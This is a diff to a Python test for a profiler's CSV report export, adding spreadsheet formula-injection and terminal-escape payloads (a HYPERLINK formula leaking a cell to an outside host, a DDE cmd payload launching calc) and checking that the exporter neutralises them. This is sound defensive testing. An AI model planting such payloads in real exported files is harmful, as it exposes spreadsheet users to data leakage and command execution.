@@ -15,6 +15,26 @@ import sys
 
 from report_json_check import HOSTILE
 
+# Names a spreadsheet would run (OWASP's CSV injection starts), on top of
+# the JSON check's hostile bytes.
+FORMULAS = [
+    b'=HYPERLINK("http://example.com/?leak="&A1,"click")',
+    b'+cmd|\' /C calc\'!A0',
+    b'-2+3',
+    b'@SUM(A1:A9)',
+    b'\t=1+1',
+    b'\r=1+1',
+    b'esc\x1b]52;c;aGVsbG8=\x07',
+]
+
+
+def csv_safe(name):
+    """What the CSV holds for a name: ill-formed UTF-8 replaced, control
+    characters (C0, DEL, C1) as '?', a ' before a leading = + - @."""
+    text = "".join("?" if ord(c) < 0x20 or 0x7f <= ord(c) <= 0x9f else c
+                   for c in name.decode("utf-8", errors="replace"))
+    return "'" + text if text[:1] in ("=", "+", "-", "@") else text
+
 HEADER = ["category", "name", "calls", "total_ns", "avg_ns", "med_ns", "min_ns", "max_ns",
           "stddev_ns", "first_ns", "rest_avg_ns", "bytes", "gbps"]
 CATEGORIES = ["kernel", "memcpy", "memset", "memory", "compile", "module", "sync", "nvtx",
@@ -59,7 +79,8 @@ def check_row(row, where):
 
 
 def main():
-    args = [sys.argv[1], "--emit"] + [n.hex() for n in HOSTILE]
+    names = HOSTILE + FORMULAS
+    args = [sys.argv[1], "--emit"] + [n.hex() for n in names]
     out = subprocess.run(args, check=True, capture_output=True).stdout
     text = out.decode("utf-8")  # strict: the whole file must be valid UTF-8
     check(text.endswith("\r\n"), "records end with CRLF")
@@ -69,7 +90,12 @@ def main():
         check_row(row, f"record {i}")
     order = [CATEGORIES.index(r[0]) for r in rows[1:] if r and r[0] in CATEGORIES]
     check(order == sorted(order), "categories out of report order")
-    want = [n.decode("utf-8", errors="replace") for n in HOSTILE]
+    want = [csv_safe(n) for n in names]
+    for row in rows[1:]:
+        check(not any(ord(c) < 0x20 or 0x7f <= ord(c) <= 0x9f for c in "".join(row)),
+              f"a control character in {row[:2]}")
+        check(len(row) < 2 or row[1][:1] not in ("=", "+", "-", "@"),
+              f"a formula in {row[:2]}")
     kernels = [r[1] for r in rows[1:] if r[0] == "kernel"]
     check(kernels[:len(want)] == want, "kernel names did not round-trip")
     ranges = [r[1] for r in rows[1:] if r[0] == "nvtx"]
